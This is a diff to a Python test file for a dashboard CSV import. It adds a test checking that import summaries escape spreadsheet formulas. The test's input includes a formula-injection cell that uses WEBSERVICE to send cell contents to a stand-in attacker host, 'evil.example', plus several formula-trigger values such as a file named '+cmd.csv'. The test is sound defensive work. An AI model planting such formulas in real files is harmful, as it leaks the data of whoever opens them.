@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import csv
+import html
 import io
 import re
+from urllib.parse import unquote
 
 import httpx
 from playwright.sync_api import Page, expect
@@ -28,6 +30,31 @@ def test_import_without_javascript_answers_with_the_summary(server: Server, db, 
     assert answer.status_code == 200
     assert 'id="import-added">1<' in answer.text and 'id="import-invalid">1<' in answer.text
     assert StopList(db, account.account).find("0612121212") is not None
+
+
+def _downloads(page: str) -> dict[str, list[list[str]]]:
+    """The CSV files an import's summary offers, by their download name."""
+    found = re.findall(r'href="data:text/csv;charset=utf-8,([^"]*)" download="([^"]+)"', page)
+    return {
+        name: list(csv.reader(io.StringIO(unquote(html.unescape(data))))) for data, name in found
+    }
+
+
+def test_import_summaries_keep_formulas_of_the_file_from_running(server: Server, account):
+    hostile = b'-Mobile\n0612121213\n=WEBSERVICE("http://evil.example/?"&A1)\n@SUM(1)\n'
+    with dashboard_client(server, account.api_key) as (client, token):
+        answer = client.post(
+            "/dashboard/import",
+            data={"csrf_token": token},
+            files={"file": ("+cmd.csv", hostile, "text/csv")},
+        )
+    assert answer.status_code == 200 and 'id="import-invalid">2<' in answer.text
+    files = _downloads(answer.text)
+    assert files["import-summary.csv"][1][:3] == ["'+cmd.csv", "4", "'-Mobile"]
+    assert [row[1] for row in files["invalid-lines.csv"][1:]] == [
+        '\'=WEBSERVICE("http://evil.example/?"&A1)',
+        "'@SUM(1)",
+    ]
 
 
 def test_import_progress_stream_ends_with_the_result(server: Server, db, account):
